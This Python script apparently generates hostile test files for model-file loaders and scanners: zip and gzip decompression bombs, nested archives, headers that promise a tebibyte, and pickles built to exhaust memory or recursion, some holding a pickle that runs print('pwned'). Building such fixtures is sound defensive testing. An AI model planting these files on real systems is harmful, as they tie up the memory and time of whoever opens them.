"""Writes files that promise or expand to far more than they hold: hostile.py DIR. Standard library only.

What they attack is the time and memory of whoever opens them; the only code in them prints a word. Names that begin
with `odd-` are strange but well-formed: only their cost is judged.
"""

import gzip
import io
import json
import pathlib
import struct
import sys
import zipfile
import zlib

TIB = 1 << 40


def stored(members):
    """A zip of (name, bytes) members, stored."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content)
    return target.getvalue()


def zeros(size):
    """Deflated zeros and their checksum, without ever holding them."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk, crc, packed = bytes(1 << 20), 0, []
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
        packed.append(deflater.compress(chunk))
    packed.append(deflater.flush())
    return b"".join(packed), crc


def zip_bomb(copies, size, overlap):
    """`copies` members of `size` zeros each; with `overlap` all of them share one local member."""
    packed, crc = zeros(size)
    body, directory, offsets = b"", b"", []
    fields = (20, 0, 8, 0, 33, crc, len(packed), size)
    for number in range(1 if overlap else copies):
        name = b"archive/data/%d" % number
        offsets.append(len(body))
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, len(name), 0) + name + packed
    for number in range(copies):
        name = b"archive/data/%d" % number
        offset = offsets[0] if overlap else offsets[number]
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, len(name), 0, 0, 0, 0, 0, offset) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, copies, copies, len(directory), len(body), 0)
    return body + directory + end


def nested_zip(levels, copies=1):
    """A pickle that prints a word, `levels` archives deep; with `copies` each holds the next so often."""
    inner = b"cbuiltins\nprint\n(S'pwned'\ntR."
    name = "model.pkl"
    for level in range(levels):
        inner = stored([(f"{copy}-{name}" if copies > 1 else name, inner) for copy in range(copies)])
        name = f"level{level}.zip"
    return inner


def nested_gzip(levels):
    inner = b"cbuiltins\nprint\n(S'pwned'\ntR."
    for _ in range(levels):
        inner = gzip.compress(inner, mtime=0)
    return inner


def zip64_member(size):
    """A stored member whose zip64 fields promise `size` bytes; a few are there."""
    name, content = b"archive/data.pkl", b"\x80\x02K\x01."
    extra = struct.pack("<HHQQ", 1, 16, size, size)
    fields = (45, 0, 0, 0, 33, zlib.crc32(content), 0xFFFFFFFF, 0xFFFFFFFF)
    body = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, len(name), len(extra)) + name + extra + content
    directory = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, *fields, len(name), len(extra), 0, 0, 0, 0, 0) + name + extra
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end


def safetensors(header, tail=b""):
    header = json.dumps(header).encode()
    return struct.pack("<Q", len(header)) + header + tail


def gguf(pairs, tensors, body):
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, pairs) + body


def gguf_text(length, content):
    return struct.pack("<Q", length) + content


FILES = {
    "zip-bomb.zip": lambda: zip_bomb(16, 512 << 20, overlap=False),
    "zip-bomb-overlap.zip": lambda: zip_bomb(2000, 256 << 20, overlap=True),
    "zip-bomb-torch.pt": lambda: zip_bomb(8, 512 << 20, overlap=False),
    "gzip-bomb.pkl.gz": lambda: b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + zeros(1 << 30)[0],
    "nested-10.zip": lambda: nested_zip(10),
    "nested-10-wide.zip": lambda: nested_zip(10, copies=3),
    "nested-10.gz": lambda: nested_gzip(10),
    "tebibyte-header.safetensors": lambda: struct.pack("<Q", TIB) + b'{"w":{"dtype":"F32"',
    "tebibyte-tensor.safetensors": lambda: safetensors(
        {"w": {"dtype": "F32", "shape": [1 << 38], "data_offsets": [0, TIB]}}, bytes(64)
    ),
    "tebibyte-string.gguf": lambda: gguf(1, 0, gguf_text(TIB, b"general.name")),
    "tebibyte-array.gguf": lambda: gguf(1, 0, gguf_text(1, b"a") + struct.pack("<IIQ", 9, 4, TIB)),
    "tebibyte-table.gguf": lambda: gguf(TIB, TIB, b""),
    "tebibyte-member.pt": lambda: zip64_member(TIB),
    "tebibyte-shape.npy": lambda: b"\x93NUMPY\x01\x00v\x00"
    + (b"{'descr': '<f4', 'fortran_order': False, 'shape': (%d,), }" % (1 << 38)).ljust(117)
    + b"\n",
    "tebibyte-string.pkl": lambda: b"\x80\x04\x8d" + struct.pack("<Q", TIB) + b"short.",
    "tebibyte-frame.pkl": lambda: b"\x80\x04\x95" + struct.pack("<Q", TIB) + b"K\x01.",
    "mark-10-million.pkl": lambda: b"\x80\x02" + b"(" * 10_000_000,
    "mark-nested-tuples.pkl": lambda: b"\x80\x02" + b"(" * 5_000_000 + b"t" * 5_000_000 + b".",
    "memo-2-31.pkl": lambda: b"\x80\x02K\x01r\xff\xff\xff\xffp2147483648\n0j\xff\xff\xff\xff.",
    "memo-sparse.pkl": lambda: b"\x80\x02K\x01" + b"".join(b"r" + struct.pack("<I", n << 10) for n in range(1 << 20)),
    "deep.json": lambda: b"[" * 8_000_000,
    "odd-doubling.pkl": lambda: b"\x80\x02K\x01" + b"2\x86" * 64 + b"\x85" * 1_000_000 + b".",
    "odd-digits.pkl": lambda: b"L" + b"9" * 8_000_000 + b"L\n.",
}


def main():
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in FILES.items():
        (folder / name).write_bytes(content())


main()
